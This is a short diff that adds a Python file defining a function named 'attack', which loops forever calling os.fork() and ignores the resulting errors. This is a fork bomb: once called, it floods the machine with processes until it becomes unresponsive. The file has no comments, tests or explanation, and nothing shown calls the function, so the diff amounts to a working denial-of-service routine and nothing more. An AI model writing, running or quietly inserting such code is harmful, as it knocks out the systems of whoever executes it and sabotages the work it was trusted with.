@@ -1,0 +1,9 @@
+import os
+
+
+def attack():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
